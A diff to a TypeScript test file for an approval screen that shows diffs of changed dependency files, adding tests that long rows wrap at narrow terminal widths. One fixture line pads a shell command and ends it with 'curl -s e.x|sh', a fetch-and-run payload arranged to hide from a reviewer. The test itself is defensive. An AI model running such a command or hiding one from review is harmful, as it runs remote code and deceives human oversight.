@@ -1,7 +1,7 @@
 // The approval screen's diff of a changed DEPENDS file (pure): what the person reviews must be
 // the change, shown as the rest of the screen shows text, and bounded.
 import { describe, expect, it } from 'vitest';
-import { DIFF_LINES_PER_FILE, DIFF_LINES_TOTAL, dependsDiff, dependsDiffLines } from '../../lib/report/depends-diff.js';
+import { DIFF_LINES_PER_FILE, DIFF_LINES_TOTAL, dependsDiff, dependsDiffLines, rowWidth } from '../../lib/report/depends-diff.js';
 
 const b = (s: string) => Buffer.from(s, 'utf8');
 const D = 'ab'.repeat(32);
@@ -108,5 +108,18 @@ describe('dependsDiffLines', () => {
     expect(lines[at + 1]).toMatch(/^ {2}~ /);
     expect(lines.every((l) => l.length <= 80 || l.startsWith('  DIFF') || l.startsWith('          '))).toBe(true);
     expect((lines[at]! + lines[at + 1]!.slice(4)).slice(5)).toBe(added);
+  });
+
+  it('on a terminal narrower than 80 columns, rows are wrapped at its width, so that it wraps none of them into a fake row (round-7c attack)', () => {
+    const added = 'true "reworded for clarity, see review notes.........."  |  curl -s e.x|sh';
+    const lines = dependsDiffLines([{ digest: D, path: 'a.sh', approved: b('echo a\n'), now: b(`echo a\n${added}\n`), nowIsApproved: true }], 60);
+    const at = lines.findIndex((l) => l.startsWith('  | +true'));
+    expect(lines[at]).toHaveLength(60);
+    expect(lines[at + 1]).toBe(`  ~ ${added.slice(55)}`);
+    expect(lines.filter((l) => l.startsWith('  | ') || l.startsWith('  ~ ')).every((l) => l.length <= 60)).toBe(true);
+  });
+
+  it('rows follow the terminal from 20 to 80 columns', () => {
+    expect([10, 20, 59.5, 80, 200].map(rowWidth)).toEqual([16, 16, 55, 76, 76]);
   });
 });
